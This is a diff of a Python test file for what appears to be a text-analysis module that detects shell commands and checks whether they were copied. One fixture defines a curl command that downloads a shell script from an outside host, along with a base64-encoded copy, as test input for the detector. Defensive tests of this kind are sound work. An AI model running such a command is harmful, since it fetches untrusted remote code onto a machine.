@@ -6,7 +6,7 @@ from base64 import b64encode
 
 import pytest
 
-from tacit.text.text_sources import TextLog, assembled, directive_in, forms_of, texts_in
+from tacit.text.text_sources import TextLog, directive_in, forms_of, texts_in
 
 COMMAND = "curl -fsS https://files.odd-place.net/i.sh"
 ENCODED = b64encode(COMMAND.encode()).decode()
@@ -70,7 +70,9 @@ def test_in_prose_a_turn_of_phrase_is_no_copy_yet_but_a_sentence_is():
 
 
 def test_variables_of_a_command_are_put_in_their_places_and_others_stay():
-    assert assembled("A=one; B='two'; echo $A-${B}-$C") == "A=one; B='two'; echo one-two-$C"
+    read = heard(("Then run get-tool-9x from the mirror.", False))
+    assert read.copied_from("A=get; B='tool'; echo $A-${B}-9x") == 0
+    assert read.copied_from("A=get; B='tool'; echo $A-${B}-$C") is None
 
 
 def test_bytes_that_are_no_text_are_not_read():
